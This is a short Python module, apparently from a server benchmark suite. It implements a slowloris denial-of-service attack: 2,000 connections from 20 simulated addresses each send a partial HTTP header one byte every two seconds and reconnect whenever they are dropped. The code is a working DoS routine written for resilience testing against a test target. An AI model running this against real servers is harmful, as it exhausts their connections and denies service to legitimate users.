"""Two thousand requests from twenty addresses that send a byte of a header every two seconds."""

from __future__ import annotations

import asyncio

from benchmarks.attacks.target import Target, pause, together

CONNECTIONS, ADDRESSES, EVERY = 2_000, 20, 2.0


async def attack(target: Target, stop: asyncio.Event) -> None:
    """Slow loris: each keeps a connection, and whoever is closed comes again."""
    await together(*(dawdle(target, stop, number % ADDRESSES) for number in range(CONNECTIONS)))


async def dawdle(target: Target, stop: asyncio.Event, stranger: int) -> None:
    """One of them."""
    while not stop.is_set():
        try:
            _, writer = await target.connect(stranger)
            writer.write(f"GET /api/games HTTP/1.1\r\nHost: {target.address}\r\nX-Slow: ".encode())
            while not stop.is_set() and not writer.transport.is_closing():
                writer.write(b"a")
                await writer.drain()
                await pause(stop, EVERY)
            writer.transport.abort()
        except (OSError, TimeoutError):
            pass
        await pause(stop, EVERY)
